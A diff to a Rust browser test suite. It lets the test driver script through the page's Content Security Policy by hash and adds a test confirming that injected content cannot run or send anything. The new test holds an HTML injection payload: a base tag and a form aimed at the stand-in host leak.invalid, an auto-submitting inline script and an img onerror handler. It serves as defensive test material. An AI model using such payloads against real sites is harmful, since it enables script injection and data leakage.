@@ -2,6 +2,9 @@
 
 #![expect(clippy::unwrap_used, reason = "a test that fails says where")]
 
+use base64::Engine;
+use base64::prelude::BASE64_STANDARD;
+use sha2::{Digest, Sha256};
 use std::path::{Path, PathBuf};
 use std::process::{Command, Stdio};
 
@@ -80,9 +83,12 @@ fn visit(test: &str, file: &Path, options: &[&str]) -> Option<Visit> {
 
 /// The page with the driver in it, and what the driver saw.
 fn driven(test: &str, scratch: &Scratch, page: &str, size: &str) -> Option<(Value, Visit)> {
-    let driver = format!("<script>{}</script></body>", include_str!("driver.js"));
+    let driver = include_str!("driver.js");
+    // The page runs no script but its own: the driver has to be let in.
+    let digest = BASE64_STANDARD.encode(Sha256::digest(driver));
+    let page = page.replacen("script-src ", &format!("script-src 'sha256-{digest}' "), 1);
     let file = scratch.path().join("driven.html");
-    std::fs::write(&file, page.replace("</body>", &driver)).unwrap();
+    std::fs::write(&file, page.replace("</body>", &format!("<script>{driver}</script></body>"))).unwrap();
     let visit = visit(test, &file, &[&format!("--window-size={size}")])?;
     let (_, seen) = visit.document.split_once("<pre id=\"seen\">").expect("the driver comes to its end");
     let seen =
@@ -118,6 +124,24 @@ fn the_page_is_filtered_searched_and_coloured_in_a_browser() {
         assert!(seen["wide"].as_i64().unwrap() <= 0, "{size}: scrolls by {}", seen["wide"]);
         assert_eq!((&seen["resources"], &seen["opened"]), (&json!([]), &json!(true)));
     }
+}
+
+/// The second line behind the escaping: what gets into the page all the same does not run, send or load anything.
+#[test]
+fn a_script_that_is_not_the_pages_does_not_run() {
+    let scratch = tides();
+    let page = page(&scratch, "tides.scene.yaml");
+    let intruder = "<base href='http://leak.invalid/'><form action='http://leak.invalid/f'><input name='q'></form>\
+                    <script>document.title = 'it ran'; document.forms[document.forms.length - 1].submit()</script>\
+                    <img src='x' onerror=\"document.title = 'it ran'\"></body>";
+    let file = scratch.path().join("intruded.html");
+    std::fs::write(&file, page.replace("</body>", intruder)).unwrap();
+    let Some(visit) = visit("a_script_that_is_not_the_pages", &file, &[]) else { return };
+    assert!(!visit.document.contains("<title>it ran"), "{}", visit.document);
+    assert!(visit.document.contains("class=\"js\""), "the page's own script runs");
+    let refused = visit.console.iter().filter(|line| line.contains("Content Security Policy")).count();
+    assert!(refused >= 2, "{:?}", visit.console);
+    assert!(visit.asked.iter().all(|url| url.starts_with("file:")), "{:?}", visit.asked);
 }
 
 /// Otherwise the tests above and below would see nothing whatever happened.
